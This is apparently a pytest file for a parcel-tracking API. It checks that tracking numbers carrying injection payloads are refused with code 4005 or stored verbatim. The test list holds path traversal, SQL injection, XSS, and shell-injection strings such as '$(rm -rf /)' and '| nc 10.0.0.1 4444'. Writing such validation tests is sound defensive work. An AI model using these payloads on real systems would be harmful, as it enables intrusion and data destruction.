"""Tracking numbers that carry path traversal, SQL, shell or HTML are either stored and returned
exactly as given, or refused with 4005; never interpreted, never a 5xx, nothing else written."""

from urllib.parse import quote

import boto3

from tests.conftest import TABLE_NAME

HOSTILE = [
    # path traversal
    "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "....//....//etc", "/etc/shadow",
    # SQL
    "1' OR '1'='1", "1; DROP TABLE trackings;--", "' UNION SELECT * FROM users--", '1" OR ""="', "ADMIN'--",
    # shell
    "$(rm -rf /)", "`reboot`", "; cat /etc/passwd", "| nc 10.0.0.1 4444", "&& curl http://x", "${IFS}ID",
    # HTML and script
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "&lt;b&gt;",
    # control characters and Unicode tricks
    "TL123\x00456", "TL123\r\nX-INJECTED: 1", "ＴＬ１２３４５６", "TL\u202e654321",
]
# Made only of the characters tracking numbers may hold: stored as they are.
LOOKALIKES = ["..-..-ETC-PASSWD", "DROP_TABLE-TRACKINGS--", "SELECT.FROM.USERS", "1--1--1", "...._....", "RM-RF.._",
              "TL1.._..-ETC-PASSWD", "OR-1-EQ-1--", "TL1-DROP_TABLE"]


def stored_numbers() -> list[str]:
    items = boto3.client("dynamodb").scan(TableName=TABLE_NAME)["Items"]
    return sorted(item["tracking_number"]["S"] for item in items if item["sk"]["S"] == "TRACKING")


def test_hostile_tracking_numbers_are_stored_verbatim_or_refused_with_4005(chain, api_key):
    # One table for every case (a table per case would cost a second each): the stored numbers
    # are checked after each, against what was accepted so far.
    accepted: list[str] = []
    for number in HOSTILE + LOOKALIKES:
        created = chain.request("POST", "/tracking/2024-04/trackings", key=api_key, body={"tracking": {"tracking_number": number}})
        if created.status == 400:
            assert created.meta["code"] == 4005, (number, created.body)
            assert number not in created.meta["message"], "the refusal does not echo the input"
            assert stored_numbers() == sorted(accepted), number
            continue
        assert number in LOOKALIKES, f"{number!r} was accepted"
        assert created.status == 201, created.body
        accepted.append(number)
        tracking = created.body["data"]["tracking"]
        assert tracking["tracking_number"] == number
        assert stored_numbers() == sorted(accepted)
        by_id = chain.request("GET", f"/tracking/2024-04/trackings/{tracking['id']}", key=api_key)
        assert by_id.body["data"]["tracking"]["tracking_number"] == number
        by_number = chain.request("GET", f"/tracking/2024-04/trackings/{tracking['slug']}/{number}", key=api_key)
        assert (by_number.status, by_number.body["data"]["tracking"]["id"]) == (200, tracking["id"])
        listed = chain.request("GET", f"/tracking/2024-04/trackings?tracking_numbers={quote(number, safe='')}", key=api_key)
        assert [t["tracking_number"] for t in listed.body["data"]["trackings"]] == [number]
    assert len(accepted) >= 3, f"the verbatim path must be exercised too: {accepted}"


def test_hostile_numbers_elsewhere_are_answered_with_4xx_or_nothing_found(chain, api_key):
    chain.request("POST", "/tracking/2024-04/trackings", key=api_key, body={"tracking": {"tracking_number": "TLSAFE000001"}})
    for number in HOSTILE:
        encoded = quote(number, safe="")
        answers = [
            chain.request("GET", f"/tracking/2024-04/trackings/ups/{encoded}", key=api_key),
            chain.request("DELETE", f"/tracking/2024-04/trackings/ups/{encoded}", key=api_key),
            chain.request("GET", f"/tracking/2024-04/last_checkpoint/ups/{encoded}", key=api_key),
            chain.request("POST", "/tracking/2024-04/couriers/detect", key=api_key, body={"tracking": {"tracking_number": number}}),
            chain.request("GET", f"/tracking/2024-04/trackings?keyword={encoded}", key=api_key),
            chain.request("GET", f"/tracking/2024-04/trackings?tracking_numbers={encoded}", key=api_key),
        ]
        for answer in answers:
            assert answer.status < 500, (number, answer.body)
            assert isinstance(answer.body, dict) and set(answer.body) == {"meta", "data"}
            if answer.status == 200:
                data = answer.body["data"]
                assert data.get("trackings", []) == [] and data.get("couriers", []) == [], (number, "nothing matches")
            else:
                assert answer.meta["code"] in (4004, 4005, 4008, 404), (number, answer.body)
    assert stored_numbers() == ["TLSAFE000001"], "only the one tracking exists, unchanged"
